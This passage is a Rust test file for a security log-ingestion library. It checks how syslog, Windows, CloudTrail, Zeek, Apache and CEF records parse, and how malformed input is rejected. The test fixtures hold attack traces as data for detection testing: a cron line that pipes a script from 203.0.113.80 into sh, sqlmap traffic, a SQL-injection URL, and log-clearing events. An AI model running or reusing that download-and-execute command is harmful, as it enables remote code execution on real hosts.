//! Each format on its bundled sample and on malformed input: every record is parsed or rejected with its
//! location and reason, and the rest of the input is still read.

mod common;

use common::{read_path, read_text, sample, text, year};
use secops_ingest::{read_input, Format, Input, Options};

#[test]
fn syslog_sample_maps_auth_events_and_rolls_over_the_year() {
    let read = read_path(&sample("auth.log"), &year(2023));
    assert_eq!((read.summary.parsed, read.summary.rejected), (31, 0));
    let e = &read.events;
    assert_eq!(
        text(&e[0], "@timestamp").as_deref(),
        Some("2023-12-31T23:58:01Z")
    );
    assert_eq!(
        text(&e[8], "@timestamp").as_deref(),
        Some("2024-01-01T00:00:07Z"),
        "New Year rollover"
    );
    assert_eq!(e[2].get("event.count").and_then(|v| v.as_i64()), Some(2));
    let action = |a: &str| {
        e.iter()
            .find(|x| x.get_str("event.action") == Some(a))
            .unwrap_or_else(|| panic!("no {a}"))
    };
    let accepted = action("ssh_login");
    assert_eq!(accepted.get_str("user.name"), Some("oracle"));
    let login_ok = e
        .iter()
        .find(|x| {
            x.get_str("event.action") == Some("ssh_login")
                && x.get_str("event.outcome") == Some("success")
        })
        .unwrap();
    assert_eq!(
        login_ok.get_str("system.auth.ssh.method"),
        Some("publickey")
    );
    assert_eq!(text(login_ok, "source.port").as_deref(), Some("40022"));
    let sudo = action("sudo_command");
    assert_eq!(sudo.get_str("user.effective.name"), Some("root"));
    assert_eq!(
        sudo.get_str("process.command_line"),
        Some("/usr/sbin/useradd -m -s /bin/bash svc-backup")
    );
    let created = action("user_created");
    assert_eq!(
        (created.get_str("user.name"), created.get_str("user.id")),
        (Some("svc-backup"), Some("1002"))
    );
    let group = action("user_added_to_group");
    assert_eq!(group.get_str("group.name"), Some("sudo"));
    assert_eq!(
        action("cron_command").get_str("process.command_line"),
        Some("/usr/bin/curl -fsS http://203.0.113.80/u.sh | sh")
    );
    assert_eq!(
        action("sudo_auth_failure")
            .get("event.count")
            .and_then(|v| v.as_i64()),
        Some(3)
    );
    assert_eq!(action("su").get_str("user.effective.name"), Some("root"));
    assert_eq!(
        action("session_started").get_str("user.name"),
        Some("deploy")
    );
    assert_eq!(
        action("pam_authentication_failure").get_str("user.name"),
        Some("root")
    );
    assert!(
        e.iter()
            .filter(|x| x.get_str("event.dataset") == Some("system.syslog"))
            .count()
            == 1,
        "only the kernel line is unmapped"
    );
}

#[test]
fn syslog_year_defaults_to_file_time() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("auth.log");
    std::fs::write(
        &path,
        "Mar  3 10:00:00 h sshd[1]: Invalid user a from 192.0.2.1\n",
    )
    .unwrap();
    let year_2019 = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_560_000_000); // June 2019
    std::fs::File::options()
        .write(true)
        .open(&path)
        .unwrap()
        .set_modified(year_2019)
        .unwrap();
    let read = read_path(&path, &Options::default());
    assert_eq!(
        text(&read.events[0], "@timestamp").as_deref(),
        Some("2019-03-03T10:00:00Z")
    );
}

#[test]
fn rfc5424_sample_keeps_structured_data() {
    let read = read_path(&sample("syslog5424.log"), &Options::default());
    assert_eq!((read.summary.parsed, read.summary.rejected), (3, 0));
    assert_eq!(
        text(&read.events[0], "@timestamp").as_deref(),
        Some("2024-05-14T07:12:44.203511Z")
    );
    assert_eq!(read.events[0].get_str("event.outcome"), Some("success"));
    assert_eq!(read.events[1].get_str("user.name"), Some("alice"));
    assert_eq!(
        read.events[2].get_str("log.syslog.structured_data.exampleSDID@32473.eventSource"),
        Some("Billing\"Q2\"")
    );
}

#[test]
fn binary_data_read_as_syslog_is_rejected_line_by_line() {
    let mut bytes = vec![0u8, 159, 146, 150, b'\n'];
    bytes.extend_from_slice(b"Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user x from 192.0.2.1\n");
    bytes.extend_from_slice(&[0x7f, b'E', b'L', b'F', 2, 1, 1, 0, b'\n']);
    let mut events = 0;
    let mut rejected = Vec::new();
    let summary = secops_ingest::read_bytes(
        Format::Syslog,
        "blob.bin",
        &bytes,
        &year(2016),
        &mut |r| match r {
            Ok(_) => events += 1,
            Err(r) => rejected.push(r.to_string()),
        },
    );
    assert_eq!((summary.read, summary.parsed, summary.rejected), (3, 1, 2));
    assert_eq!(events, 1);
    assert!(
        rejected[0].starts_with("blob.bin:1: not syslog"),
        "{}",
        rejected[0]
    );
    assert!(
        rejected[1].starts_with("blob.bin:3: not syslog"),
        "{}",
        rejected[1]
    );
}

#[test]
fn undetectable_binary_file_is_an_error_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("core.dump");
    std::fs::write(&path, [0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0]).unwrap();
    let err = read_input(&Input::File(path.clone()), &Options::default(), &mut |_| {})
        .err()
        .unwrap()
        .to_string();
    assert!(
        err.contains("core.dump") && err.contains("binary data") && err.contains("--format"),
        "{err}"
    );
}

#[test]
fn json_lines_pass_ecs_through_and_reject_bad_lines_with_their_number() {
    let read = read_path(&sample("ecs.jsonl"), &Options::default());
    assert_eq!((read.summary.parsed, read.summary.rejected), (3, 0));
    let e = &read.events;
    assert_eq!(
        text(&e[0], "source.ip").as_deref(),
        Some("203.0.113.9"),
        "nested ECS resolves by dotted path"
    );
    assert_eq!(
        text(&e[0], "@timestamp").as_deref(),
        Some("2024-05-14T11:00:00.250Z")
    );
    assert_eq!(
        text(&e[1], "@timestamp").as_deref(),
        Some("2024-05-14T11:01:01Z"),
        "epoch milliseconds"
    );
    assert_eq!(text(&e[2], "client.ip").as_deref(), Some("198.51.100.77"));
    assert_eq!(
        text(&e[2], "@timestamp").as_deref(),
        Some("2024-05-14T09:02:00Z")
    );

    let bad = read_text(
        Format::Json,
        "{\"a\": 1}\n{\"a\": 2,,}\nnot json\n[1, 2]\n{\"@timestamp\": \"soon\"}\n{\"a\": 3}\n",
        &Options::default(),
    );
    assert_eq!(
        (bad.summary.read, bad.summary.parsed, bad.summary.rejected),
        (7, 2, 5)
    );
    let messages: Vec<String> = bad.rejections.iter().map(|r| r.to_string()).collect();
    assert!(
        messages[0].starts_with("test.log:2: invalid JSON"),
        "{messages:?}"
    );
    assert!(
        messages[1].starts_with("test.log:3: invalid JSON"),
        "{messages:?}"
    );
    assert_eq!(
        messages[2],
        "test.log:4 record 0: expected a JSON object, found a number"
    );
    assert!(
        messages[4].starts_with("test.log:5: invalid JSON: @timestamp soon"),
        "{messages:?}"
    );
}

#[test]
fn pretty_printed_json_documents_span_lines_and_an_unclosed_one_is_rejected() {
    let text_in = "{\n  \"a\": {\n    \"b\": 1\n  }\n}\n{\"c\": 2}\n{\n  \"never\": \"closed\"\n";
    let read = read_text(Format::Json, text_in, &Options::default());
    assert_eq!((read.summary.parsed, read.summary.rejected), (2, 1));
    assert_eq!(read.events[0].provenance().to_string(), "test.log:1");
    assert_eq!(text(&read.events[0], "a.b").as_deref(), Some("1"));
    assert_eq!(read.events[1].provenance().to_string(), "test.log:6");
    assert!(
        read.rejections[0]
            .to_string()
            .starts_with("test.log:7: invalid JSON: document starting here"),
        "{}",
        read.rejections[0]
    );
}

#[test]
fn windows_json_normalizes_string_ids_and_text_attributes() {
    let read = read_path(&sample("windows.jsonl"), &Options::default());
    assert_eq!((read.summary.parsed, read.summary.rejected), (4, 0));
    let e = &read.events;
    assert_eq!(
        e[0].get("Event.System.EventID").and_then(|v| v.as_i64()),
        Some(4625)
    );
    assert!(
        matches!(
            e[0].get("Event.System.EventID"),
            Some(secops_event::Value::Int(4625))
        ),
        "string ids become numbers"
    );
    assert_eq!(e[0].get_str("event.outcome"), Some("failure"));
    assert_eq!(e[0].get_str("user.name"), Some("administrator"));
    assert_eq!(text(&e[0], "source.ip").as_deref(), Some("198.51.100.23"));
    assert_eq!(text(&e[0], "winlog.record_id").as_deref(), Some("88120"));
    assert_eq!(e[1].get_str("process.name"), Some("powershell.exe"));
    assert_eq!(e[1].get_str("process.parent.name"), Some("WINWORD.EXE"));
    assert_eq!(
        e[1].get_str("process.hash.sha256"),
        Some("DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C")
    );
    assert_eq!(
        (e[1].get_str("user.domain"), e[1].get_str("user.name")),
        (Some("CORP"), Some("jdoe"))
    );
    assert_eq!(e[1].get_str("event.dataset"), Some("windows.sysmon"));
    assert_eq!(
        e[2].get("Event.System.EventID").and_then(|v| v.as_i64()),
        Some(7045),
        "#text wins over #attributes"
    );
    assert_eq!(
        text(&e[2], "Event.System.EventID_attributes.Qualifiers").as_deref(),
        Some("16384")
    );
    assert_eq!(e[2].get_str("service.name"), Some("PSEXESVC"));
    assert_eq!(e[3].get_str("event.action"), Some("audit-log-cleared"));
    assert_eq!(
        e[3].get_str("Event.UserData.LogFileCleared.SubjectUserName"),
        Some("Administrator")
    );

    let bad = read_text(
        Format::Json,
        "{\"Event\": {\"System\": {\"EventID\": \"x\"}}}\n{\"Event\": {\"System\": {\"EventID\": 4624}}}\n",
        &Options::default(),
    );
    assert_eq!(bad.summary.rejected, 2);
    assert_eq!(
        bad.rejections[0].to_string(),
        "test.log:1: not Windows event: Event.System.EventID missing or not a number"
    );
    assert_eq!(
        bad.rejections[1].to_string(),
        "test.log:2: not Windows event: Event.System.TimeCreated SystemTime missing"
    );
}

#[test]
fn cloudtrail_document_and_lines_map_identity_and_outcome() {
    let doc = read_path(&sample("cloudtrail.json"), &Options::default());
    let lines = read_path(&sample("cloudtrail.jsonl"), &Options::default());
    assert_eq!(doc.summary.format, Format::CloudTrail);
    assert_eq!((doc.summary.parsed, lines.summary.parsed), (4, 4));
    for e in [&doc.events, &lines.events] {
        assert_eq!(e[0].get_str("event.category"), Some("authentication"));
        assert_eq!(
            e[0].get_str("aws.cloudtrail.console_login.mfa_used")
                .or(None),
            None
        );
        assert_eq!(
            e[0].get("aws.cloudtrail.console_login.mfa_used")
                .map(|v| v.to_string())
                .as_deref(),
            Some("false")
        );
        assert_eq!(e[1].get_str("user.name"), Some("root"));
        assert_eq!(e[1].get_str("event.action"), Some("StopLogging"));
        assert_eq!(
            e[2].get_str("requestParameters.groupId"),
            Some("sg-0a1b2c3d4e5f67890"),
            "original fields resolve by path"
        );
        assert_eq!(e[3].get_str("event.outcome"), Some("failure"));
        assert_eq!(e[3].get_str("user.name"), Some("deployer"));
        assert_eq!(e[3].get_str("source.address"), Some("ec2.amazonaws.com"));
    }
    assert_eq!(
        doc.events[2].provenance().to_string(),
        format!("{}:1 record 2", sample("cloudtrail.json").display())
    );
    let bad = read_text(
        Format::CloudTrail,
        "{\"Records\": [{\"eventName\": \"X\"}, 5]}\n",
        &Options::default(),
    );
    assert_eq!(bad.summary.rejected, 2);
    assert_eq!(
        bad.rejections[0].to_string(),
        "test.log:1 record 0: not CloudTrail: eventTime missing"
    );
}

#[test]
fn zeek_tsv_and_json_are_typed_and_mapped() {
    let conn = read_path(&sample("zeek/conn.log"), &Options::default());
    assert_eq!((conn.summary.parsed, conn.summary.rejected), (16, 0));
    let first = &conn.events[0];
    assert_eq!(first.get_str("event.dataset"), Some("zeek.conn"));
    assert!(matches!(
        first.get("source.ip"),
        Some(secops_event::Value::Ip(_))
    ));
    assert!(matches!(
        first.get("id.resp_p"),
        Some(secops_event::Value::Int(8443))
    ));
    assert_eq!(first.get_str("network.transport"), Some("tcp"));
    assert!(
        conn.events.iter().any(|e| e.get("duration").is_none()),
        "unset `-` fields are left out"
    );
    let dns = read_path(&sample("zeek/dns.log"), &Options::default());
    assert_eq!(
        dns.events[0]
            .get("dns.answers.data")
            .and_then(|v| v.as_array())
            .map(|a| a.len()),
        Some(2)
    );
    assert_eq!(dns.events[1].get_str("dns.response_code"), Some("NXDOMAIN"));
    for (file, dataset) in [
        ("zeek/http.log", "zeek.http"),
        ("zeek/ssl.log", "zeek.ssl"),
        ("zeek/files.log", "zeek.files"),
    ] {
        let read = read_path(&sample(file), &Options::default());
        assert_eq!(read.events[0].get_str("event.dataset"), Some(dataset));
    }
    let json = read_path(&sample("zeek/dns.json"), &Options::default());
    assert_eq!(
        json.events[0].get_str("dns.question.name"),
        Some("login.microsoftonline.com")
    );
    assert_eq!(
        json.events[1].get_str("event.dataset"),
        Some("zeek.conn"),
        "path inferred from fields"
    );
    assert_eq!(
        json.events[1]
            .get("event.duration")
            .and_then(|v| v.as_i64()),
        Some(1_200_000_000)
    );

    let bad = read_text(Format::Zeek, "1.0\tx\n#separator \\x09\n#fields\tts\tuid\n#types\ttime\tstring\n1.5\tC1\n2.5\tC2\textra\n", &Options::default());
    assert_eq!((bad.summary.parsed, bad.summary.rejected), (1, 2));
    assert_eq!(
        bad.rejections[0].to_string(),
        "test.log:1: Zeek row before any #fields header"
    );
    assert_eq!(
        bad.rejections[1].to_string(),
        "test.log:6: Zeek row has 3 fields, the #fields header declares 2"
    );
}

#[test]
fn access_and_error_logs_parse_and_reject_garbage() {
    let access = read_path(&sample("access.log"), &Options::default());
    assert_eq!((access.summary.parsed, access.summary.rejected), (9, 0));
    assert_eq!(
        access.events[2].get_str("user_agent.original"),
        Some("sqlmap/1.7.2#stable (https://sqlmap.org)")
    );
    assert_eq!(access.events[6].get_str("user.name"), Some("admin"));
    assert_eq!(
        text(&access.events[8], "source.ip").as_deref(),
        Some("2001:db8::5")
    );
    let error = read_path(&sample("apache_error.log"), &Options::default());
    assert_eq!((error.summary.parsed, error.summary.rejected), (5, 0));
    let bad = read_text(
        Format::ApacheAccess,
        "garbage\n192.0.2.1 - - [14/May/2024:09:20:01 +0000] \"GET / HTTP/1.1\" 200 1\n",
        &Options::default(),
    );
    assert_eq!((bad.summary.parsed, bad.summary.rejected), (1, 1));
    assert_eq!(
        bad.rejections[0].to_string(),
        "test.log:1: not an access log line: no ident field"
    );
    let bad = read_text(
        Format::ApacheError,
        "[nope] [error] x\n",
        &Options::default(),
    );
    assert!(bad.rejections[0]
        .to_string()
        .starts_with("test.log:1: not an Apache error log line"));
}

#[test]
fn cef_alone_and_behind_syslog_with_escapes() {
    let read = read_path(&sample("firewall.cef"), &year(2024));
    assert_eq!((read.summary.parsed, read.summary.rejected), (3, 0));
    let e = &read.events;
    assert_eq!(e[0].get_str("observer.vendor"), Some("Palo Alto Networks"));
    assert_eq!(
        e[0].get_str("url.original"),
        Some("https://shop.example.com/products.php?id=1 UNION SELECT")
    );
    assert_eq!(e[0].get_str("cef.extensions.cs1Label"), Some("Rule"));
    assert_eq!(
        text(&e[0], "@timestamp").as_deref(),
        Some("2024-05-14T09:21:13Z")
    );
    assert_eq!(e[1].get_str("host.name"), Some("fw01"));
    assert_eq!(e[1].get("event.severity").and_then(|v| v.as_i64()), Some(6));
    assert_eq!(e[1].get_str("source.user.name"), Some("CORP\\jdoe"));
    assert_eq!(e[1].get_str("event.outcome"), Some("failure"));
    assert_eq!(e[2].get_str("cef.device.product"), Some("threat|manager"));
    assert_eq!(
        e[2].get_str("message"),
        Some("Detected a threat.\nNo action needed")
    );
    let bad = read_text(
        Format::Cef,
        "CEF:0|only|three\nno cef here\n",
        &Options::default(),
    );
    assert_eq!(bad.summary.rejected, 2);
    assert_eq!(
        bad.rejections[0].to_string(),
        "test.log:1: not CEF: fewer than 7 |-separated header fields"
    );
    assert_eq!(
        bad.rejections[1].to_string(),
        "test.log:2: not CEF: no CEF: header"
    );
}

#[test]
fn gzip_inputs_are_detected_after_decompression() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("auth.log.1.gz");
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&path).unwrap(),
        flate2::Compression::default(),
    );
    gz.write_all(&std::fs::read(sample("auth.log")).unwrap())
        .unwrap();
    gz.finish().unwrap();
    let read = read_path(&path, &year(2023));
    assert_eq!(
        (read.summary.format, read.summary.parsed),
        (Format::Syslog, 31)
    );
}

/// What `read_all` hands back from one input: its mapped records in order, and its summary.
#[derive(Default)]
struct Collect {
    records: Vec<String>,
    summary: Option<Result<secops_ingest::Summary, secops_ingest::IngestError>>,
}

impl secops_ingest::parallel::Consumer<String> for Collect {
    fn record(&mut self, _index: usize, item: String) {
        self.records.push(item);
    }
    fn done(
        &mut self,
        _index: usize,
        summary: Result<secops_ingest::Summary, secops_ingest::IngestError>,
    ) {
        self.summary = Some(summary);
    }
}

impl Collect {
    fn parsed(&self) -> u64 {
        match &self.summary {
            Some(Ok(summary)) => summary.parsed,
            _ => 0,
        }
    }

    fn summary(&self) -> String {
        match &self.summary {
            Some(Ok(summary)) => summary.to_string(),
            Some(Err(e)) => e.to_string(),
            None => "no summary".into(),
        }
    }
}

/// One input is parsed on one thread and its records mapped on several: they come back in the input's
/// order, the syslog year rolling over where it should, whatever the number of workers.
#[test]
fn one_input_mapped_on_many_workers_keeps_its_order_and_its_year() {
    use secops_ingest::parallel::{read_all, Order};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("auth.log");
    // 20,000 lines (many batches) from December into January, with a rejected line now and then.
    let mut text = String::new();
    for i in 0..20_000u32 {
        let (month, day) = if i < 10_000 { ("Dec", 31) } else { ("Jan", 1) };
        if i % 997 == 0 {
            text.push_str("\u{1}\u{2} not a syslog line\n");
        }
        text.push_str(&format!(
            "{month} {day:>2} {:02}:{:02}:{:02} host sshd[{i}]: Failed password for root from 203.0.113.9 port {i} ssh2\n",
            i / 3600 % 24,
            i / 60 % 60,
            i % 60
        ));
    }
    std::fs::write(&path, text).unwrap();
    let inputs = [Input::File(path)];
    let options = Options {
        format: Some(Format::Syslog),
        ..year(2016)
    };
    let map = |record: Result<secops_event::Event, secops_ingest::Rejection>| match record {
        Ok(event) => Some(format!(
            "{} {}",
            event.provenance(),
            event
                .timestamp()
                .map(|t| t.to_rfc3339())
                .unwrap_or_default()
        )),
        Err(rejection) => Some(format!("rejected {}", rejection.provenance)),
    };
    let mut one = Collect::default();
    read_all(&inputs, &options, Order::Input, 1, map, &mut one);
    assert_eq!(one.parsed(), 20_000);
    assert!(
        one.records[1].ends_with(" 2016-12-31T00:00:00Z"),
        "{}",
        one.records[1]
    );
    assert!(
        one.records.last().unwrap().ends_with("Z")
            && one.records.last().unwrap().contains(" 2017-01-01T")
    );
    for workers in [2, 3, 8] {
        let mut many = Collect::default();
        read_all(&inputs, &options, Order::Input, workers, map, &mut many);
        assert_eq!(many.parsed(), one.parsed());
        assert!(
            many.records == one.records,
            "{workers} workers changed the order"
        );
    }
}

/// JSON lines are parsed by the workers when several map one input: every kind of line (records of
/// each shape, wrappers and arrays, broken lines, a document over several lines, strings holding
/// brackets and escaped quotes, nesting at and past the limit) reads exactly as on one thread, in the
/// same order, with the same summary.
#[test]
fn json_lines_parsed_on_many_workers_read_as_on_one() {
    use secops_ingest::parallel::{read_all, Order};
    let windows = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2019-04-27T15:57:53.3688632Z"}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"IEWIN7"},"EventData":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c \"echo {[}]\""}}}""##;
    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    let kinds: Vec<String> = vec![
        windows.to_string(),
        r#"{"@timestamp":"2024-05-01T10:00:00Z","user":{"name":"alice"},"message":"say \"}\" and \\"}"#.into(),
        r#"{"Records":[{"eventSource":"iam.amazonaws.com","eventName":"CreateUser","eventTime":"2024-05-01T10:00:01Z"},7]}"#.into(),
        r#"[{"ts":1714557602,"uid":"C1","id.orig_h":"10.0.0.1","_path":"conn"},"text"]"#.into(),
        r#"{"user": "never closed"#.into(),
        r#"{"a":1}}"#.into(),
        r#"{"@timestamp":"not a time"}"#.into(),
        "{\n  \"user\": \"pretty\",\n  \"n\": [1,\n 2]\n}".into(),
        format!("{{\"a\":{}}}", deep(126)),
        format!("{{\"a\":{}}}", deep(127)),
        "\u{feff}  {\"bom\": true}".into(),
        "not json".into(),
    ];
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("mixed.jsonl");
    let mut text = String::new();
    for i in 0..3_000 {
        text.push_str(&kinds[i % kinds.len()]);
        text.push('\n');
    }
    std::fs::write(&path, text).unwrap();
    let inputs = [Input::File(path)];
    let options = Options {
        format: Some(Format::Json),
        ..Options::default()
    };
    let map = |record: Result<secops_event::Event, secops_ingest::Rejection>| match record {
        Ok(event) => Some(format!(
            "{} {:?} {}",
            event.provenance(),
            event.timestamp().map(|t| t.to_rfc3339()),
            secops_event::Value::Object(event.fields().clone())
        )),
        Err(rejection) => Some(format!("rejected {rejection}")),
    };
    let mut one = Collect::default();
    read_all(&inputs, &options, Order::Input, 1, map, &mut one);
    // Several kinds of rejection, each with its first example: their order is part of what must match.
    assert!(
        one.summary().matches(", first: ").count() >= 2,
        "{}",
        one.summary()
    );
    // Nesting is refused exactly where serde_json refuses it, on the reading thread or a worker.
    let of_kind = |k: usize| {
        let line = 1 + kinds[..k].iter().map(|t| t.lines().count()).sum::<usize>();
        let tag = format!("mixed.jsonl:{line}");
        one.records
            .iter()
            .find(|r| r.contains(&format!("{tag}:")) || r.contains(&format!("{tag} ")))
            .cloned()
            .unwrap_or_default()
    };
    for (k, levels) in [(8, 127), (9, 128)] {
        let accepted = serde_json::from_str::<serde_json::Value>(&kinds[k]).is_ok();
        let record = of_kind(k);
        assert_eq!(
            !record.starts_with("rejected"),
            accepted,
            "{levels} levels: {}",
            &record[..80.min(record.len())]
        );
    }
    assert!(of_kind(9).contains("recursion limit"), "{}", of_kind(9));
    assert!(
        one.records
            .iter()
            .filter(|r| r.starts_with("rejected"))
            .count()
            >= 6 * 3_000 / kinds.len(),
        "{:?}",
        &one.records[..kinds.len() + 4]
    );
    for workers in [2, 3] {
        let mut many = Collect::default();
        read_all(&inputs, &options, Order::Input, workers, map, &mut many);
        assert_eq!(many.summary(), one.summary(), "{workers} workers: summary");
        assert_eq!(
            many.records.len(),
            one.records.len(),
            "{workers} workers: records"
        );
        for (a, b) in one.records.iter().zip(&many.records) {
            assert_eq!(a, b, "{workers} workers");
        }
    }
}

/// RFC 3164 lines carry no year: without `--year` it comes from the file's modification time, and a
/// first line dated after that time (31 December in a file last written on 3 December) is from the
/// year before, not the future.
#[test]
fn a_syslog_file_starting_after_its_modification_date_starts_the_year_before() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("auth.log");
    std::fs::write(
        &path,
        "Dec 31 23:58:01 bastion sshd[4121]: Invalid user oracle from 198.51.100.23 port 51122\n\
         Jan  1 00:00:05 bastion sshd[4122]: Failed password for root from 198.51.100.23 port 51123 ssh2\n",
    )
    .unwrap();
    // 2026-12-03T10:00:00Z
    let modified = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_796_292_000);
    std::fs::File::options()
        .write(true)
        .open(&path)
        .unwrap()
        .set_modified(modified)
        .unwrap();
    let read = read_path(&path, &Options::default());
    let times: Vec<String> = read
        .events
        .iter()
        .map(|e| e.timestamp().map(|t| t.to_rfc3339()).unwrap_or_default())
        .collect();
    assert_eq!(times, ["2025-12-31T23:58:01Z", "2026-01-01T00:00:05Z"]);
}

/// PAM's `uid=`/`euid=` belong to the calling process (sshd runs as root), not to the user who failed
/// to log in: they are `process.real_user.id` and `process.user.id`, and `user.id` is left unset, so
/// that a failure is not taken for root's (older `sshd(pam_unix)` and newer `pam_unix(sshd:auth)` lines).
#[test]
fn pam_failures_name_the_user_not_the_calling_process() {
    let text = "Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 \n\
                Jun 15 02:04:59 combo sshd(pam_unix)[20882]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=220-135-151-1.hinet-ip.hinet.net  user=root\n\
                Dec 10 06:55:48 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=173.234.31.186  user=webmaster\n";
    let read = read_text(Format::Syslog, text, &year(2016));
    assert_eq!(read.summary.parsed, 3, "{}", read.summary);
    let field = |e: &secops_event::Event, name: &str| e.get(name).map(|v| v.to_string());
    for event in &read.events {
        assert_eq!(event.get_str("event.outcome"), Some("failure"));
        assert_eq!(
            field(event, "user.id"),
            None,
            "uid=0 is sshd's, not the user's"
        );
        assert_eq!(field(event, "process.real_user.id").as_deref(), Some("0"));
        assert_eq!(field(event, "process.user.id").as_deref(), Some("0"));
    }
    let names: Vec<Option<&str>> = read.events.iter().map(|e| e.get_str("user.name")).collect();
    assert_eq!(names, [None, Some("root"), Some("webmaster")]);
    assert_eq!(
        field(&read.events[0], "source.ip").as_deref(),
        Some("218.188.2.4")
    );
    assert_eq!(
        read.events[1].get_str("source.domain"),
        Some("220-135-151-1.hinet-ip.hinet.net")
    );
}

/// Authentication failures and logins that only name themselves in words sshd, klogind, ftpd and login
/// use: each gets an outcome, and the user and source it names (lines as those programs write them;
/// the first ones as in loghub's OpenSSH and Linux logs).
#[test]
fn authentication_messages_beyond_failed_password_carry_outcome_user_and_source() {
    let lines = [
        "Dec 10 09:32:20 LabSZ sshd[24680]: error: Received disconnect from 103.99.0.122: 14: No more user authentication methods available. [preauth]",
        "Dec 10 07:51:15 LabSZ sshd[24324]: error: Received disconnect from 195.154.37.122: 3: com.jcraft.jsch.JSchException: Auth fail [preauth]",
        "Dec 10 07:13:56 LabSZ sshd[24227]: Disconnecting: Too many authentication failures for root [preauth]",
        "Dec 11 10:00:01 web1 sshd[4100]: Disconnecting authenticating user root 203.0.113.9 port 50022: Too many authentication failures [preauth]",
        "Dec 11 10:00:02 web1 sshd[4101]: Disconnecting invalid user admin 2001:db8::7 port 50023: Too many authentication failures [preauth]",
        "Dec 11 10:00:03 web1 sshd[4102]: Received disconnect from 198.51.100.4 port 40000:14: No more user authentication methods available. [preauth]",
        "Jun 30 20:53:04 combo klogind[19272]: Authentication failed from 163.27.187.39 (163.27.187.39): Permission denied in replay cache code ",
        "Jun 30 20:53:04 combo klogind[19272]: Kerberos authentication failed ",
        "Jul 24 02:38:23 combo ftpd[16781]: ANONYMOUS FTP LOGIN FROM 84.102.20.2,  (anonymous)",
        "Jul  7 08:06:15 combo  -- root[2421]: ROOT LOGIN ON tty2",
        "Jul  7 08:07:00 combo login[2500]: FAILED LOGIN 1 FROM (null) FOR alice, Authentication failure",
        "Jul  7 08:08:00 combo login[2501]: LOGIN ON pts/1 BY alice FROM 10.0.0.5",
    ];
    let read = read_text(Format::Syslog, &lines.join("\n"), &year(2016));
    assert_eq!(read.summary.parsed, 12, "{}", read.summary);
    let text = |e: &secops_event::Event, name: &str| e.get(name).map(|v| v.to_string());
    let seen: Vec<_> = read
        .events
        .iter()
        .map(|e| {
            (
                e.get_str("event.action").unwrap_or("-").to_string(),
                e.get_str("event.outcome").unwrap_or("-").to_string(),
                e.get_str("user.name").unwrap_or("-").to_string(),
                text(e, "source.ip")
                    .or_else(|| text(e, "source.domain"))
                    .unwrap_or_else(|| "-".into()),
            )
        })
        .collect();
    let expected = [
        (
            "ssh_client_gave_up_authentication",
            "failure",
            "-",
            "103.99.0.122",
        ),
        (
            "ssh_client_gave_up_authentication",
            "failure",
            "-",
            "195.154.37.122",
        ),
        ("ssh_too_many_auth_failures", "failure", "root", "-"),
        (
            "ssh_too_many_auth_failures",
            "failure",
            "root",
            "203.0.113.9",
        ),
        (
            "ssh_too_many_auth_failures",
            "failure",
            "admin",
            "2001:db8::7",
        ),
        (
            "ssh_client_gave_up_authentication",
            "failure",
            "-",
            "198.51.100.4",
        ),
        (
            "kerberos_remote_login_failed",
            "failure",
            "-",
            "163.27.187.39",
        ),
        ("kerberos_authentication_failed", "failure", "-", "-"),
        ("ftp_anonymous_login", "success", "anonymous", "84.102.20.2"),
        ("login", "success", "root", "-"),
        ("login", "failure", "alice", "-"),
        ("login", "success", "alice", "10.0.0.5"),
    ];
    for (i, (got, want)) in seen.iter().zip(expected).enumerate() {
        assert_eq!(
            (
                got.0.as_str(),
                got.1.as_str(),
                got.2.as_str(),
                got.3.as_str()
            ),
            want,
            "line {}: {}",
            i + 1,
            lines[i]
        );
    }
    for event in &read.events {
        assert_eq!(event.get_str("event.dataset"), Some("system.auth"));
    }
    assert_eq!(
        read.events[4]
            .get("system.auth.ssh.invalid_user")
            .map(|v| v.to_string())
            .as_deref(),
        Some("true")
    );
    assert_eq!(read.events[9].get_str("process.name"), Some("login"));
    assert_eq!(read.events[9].get_str("system.auth.tty"), Some("tty2"));
    assert_eq!(
        read.events[1].get_str("system.auth.ssh.disconnect_reason"),
        Some("com.jcraft.jsch.JSchException: Auth fail")
    );
    // A disconnect that is not about authentication stays a network event.
    let bye = "Dec 11 10:00:04 web1 sshd[4103]: Received disconnect from 198.51.100.4 port 40001:11: disconnected by user";
    let read = read_text(Format::Syslog, bye, &year(2016));
    assert_eq!(
        read.events[0].get_str("event.action"),
        Some("ssh_disconnect")
    );
    assert_eq!(read.events[0].get_str("event.outcome"), None);
}

/// One TCP flow seen by Zeek, a firewall (CEF) and Sysmon (event 3, from the far end's view): the
/// same `network.community_id` on all three, whichever side each names as the source.
#[test]
fn one_flow_gets_one_community_id_across_zeek_cef_and_sysmon() {
    let zeek = read_text(
        Format::Zeek,
        "{\"_path\":\"conn\",\"ts\":\"2026-12-01T10:00:00Z\",\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":49712,\"id.resp_h\":\"203.0.113.9\",\"id.resp_p\":443,\"proto\":\"tcp\",\"conn_state\":\"SF\"}\n",
        &Options::default(),
    );
    let cef = read_text(
        Format::Cef,
